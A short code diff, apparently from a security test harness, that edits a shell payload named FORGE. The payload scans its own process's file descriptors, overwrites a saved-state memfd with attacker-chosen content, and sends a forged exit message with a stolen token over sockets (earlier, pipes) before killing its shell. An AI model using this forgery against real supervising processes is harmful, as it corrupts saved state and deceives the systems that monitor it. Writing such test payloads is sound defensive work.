@@ -16,8 +16,8 @@ FORGE = (
     "trap '' EXIT; s= w=; for f in /proc/$$/fd/*; do "
     "case $(readlink $f) in *memfd:state*) s=$f;; *memfd:script*) w=$f;; esac; done; "
     '[ -n "$s" ] && [ -n "$w" ] || exit 77; w=$(tail -c 33 $w | tr -d "\\0"); {{ {what}; echo "#end"; }} >$s; '
-    "for f in /proc/$$/fd/*; do case $f in */[012]) ;; *) case $(readlink $f) in pipe*) "
-    "printf '%s\\0exit\\0/\\0' $w >$f;; esac; esac; done; kill -9 $$"
+    "for f in /proc/$$/fd/*; do case $(readlink $f) in socket*) printf '%s\\0exit\\0/\\0' $w >&${{f##*/}};; esac; done;"
+    " kill -9 $$"
 )
 """Leaves a state of the attacker's own, and says of it all that a shell says which saved it."""
 
